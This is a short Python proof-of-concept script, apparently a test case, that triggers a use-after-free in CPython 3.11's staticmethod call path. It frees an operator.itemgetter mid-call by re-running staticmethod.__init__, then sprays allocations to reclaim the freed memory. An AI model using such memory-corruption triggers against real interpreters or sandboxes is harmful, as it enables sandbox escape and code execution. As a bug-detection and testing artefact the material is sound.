# technique: staticmethod is callable in 3.11: sm_call calls sm->sm_callable borrowed; the callable (a 2-item operator.itemgetter) reaches obj.__getitem__, which calls sm.__init__(other) (__init__ is an allowed name; cm_init rebinds the field) and frees the itemgetter while itemgetter_call still reads ig->item: the freed block is taken by another itemgetter (use-after-free)
# expect: any
import operator
ig = operator.itemgetter
keep = []
class Obj:
    def __getitem__(self, i):
        if i == 0:
            sm.__init__(repl)     # drops the itemgetter only sm held (repl has the same attributes: no allocation)
            keep.append((ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6), ig(5, 6)))
        return i
obj = Obj()
repl = ig(7, 8)
sm = staticmethod(operator.itemgetter(0, 1))
r = sm(obj)
if r != (0, 1):
    raise RuntimeError("use-after-free: staticmethod call, itemgetter freed: got %r" % (r,))
print("sm", r)
